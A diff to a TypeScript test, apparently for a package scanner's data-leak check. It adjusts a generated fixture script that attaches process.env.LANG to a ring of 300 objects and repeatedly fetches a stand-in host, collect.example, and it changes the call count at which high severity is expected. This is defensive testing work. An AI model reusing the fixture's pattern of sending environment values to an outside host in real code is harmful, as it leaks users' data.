@@ -79,9 +79,9 @@ test('values that lead to each other without end are told, because anything coul
   const script = (sends: number): string => {
     const names = Array.from({ length: 300 }, (_, index) => `o${index}`);
     const ring = names.map((name, index) => `${name}.n = ${names[(index + 1) % names.length]};`).join('');
-    return `const u = 'https://collect.example/'; ${names.map((name) => `const ${name} = {};`).join('')} ${ring} o0.e = process.env.LANG; const all = [${names.join()}]; ${'fetch(u, all);'.repeat(sends)}`;
+    return `const u = 'https://collect.example/'; ${names.map((name) => `const ${name} = {};`).join('')} ${ring} o0.e = process.env.LANG; const all = [${names.join()}]; ${'fetch(u,all);'.repeat(sends)}`;
   };
   const told = (sends: number) => judgeTaken(packageOf({ 'a.js': script(sends) }), 'data-leak', []).map(({ severity, message }) => `${severity} ${message.slice(0, 26)}`);
-  assert.deepEqual(told(1_500), ['high values lead to each other ']);
+  assert.deepEqual(told(2_800), ['high values lead to each other ']);
   assert.deepEqual(told(10), []);
 });
